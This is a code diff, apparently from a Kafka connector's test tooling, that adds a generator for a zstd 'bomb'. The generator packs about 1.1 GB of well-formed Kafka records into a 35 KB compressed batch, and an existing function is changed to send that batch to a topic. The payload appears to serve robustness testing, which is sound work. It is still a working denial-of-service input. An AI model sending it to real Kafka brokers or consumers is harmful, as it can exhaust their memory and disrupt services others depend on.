@@ -9,6 +9,7 @@ import lz4.frame
 import zstandard
 from kafka import KafkaProducer
 from kafka.record import default_records
+from kafka.record.util import encode_varint
 
 from radarstream.connectors.kafka.clients import producer_arguments
 from radarstream.connectors.kafka.options import KafkaOptions
@@ -74,7 +75,27 @@ def send_batch(
         producer.close(timeout=5)
 
 
+def zstd_records(count: int, size: int = BOMB_BYTES) -> bytes:
+    """1.1 GB of zeros in 35 KB, as values of well-formed records: Apache Kafka looks closely."""
+    value = size // count // len(PIECE) * len(PIECE)
+    packed = io.BytesIO()
+    with zstandard.ZstdCompressor().stream_writer(packed, closefd=False) as writer:
+        for number in range(count):
+            body = bytearray(2)  # attributes, time stamp
+            for field in (number, 1):
+                encode_varint(field, body.append)
+            body += b"k"
+            encode_varint(value, body.append)
+            length = bytearray()
+            encode_varint(len(body) + value + 1, length.append)
+            writer.write(bytes(length + body))
+            for _ in range(value // len(PIECE)):
+                writer.write(PIECE)
+            writer.write(b"\0")  # no headers
+    return packed.getvalue()
+
+
 def send_bomb(options: KafkaOptions, topic: str, records: int = 1) -> list[int]:
-    """Write a batch of 35 KB that decompresses to 1.1 GB of zeros."""
-    bomb = zstd_zeros()
+    """Write a batch of 35 KB that decompresses to 1.1 GB, mostly zeros."""
+    bomb = zstd_records(records)
     return send_batch(options, topic, bomb, records=[bytes(len(bomb) + 1)] * records)
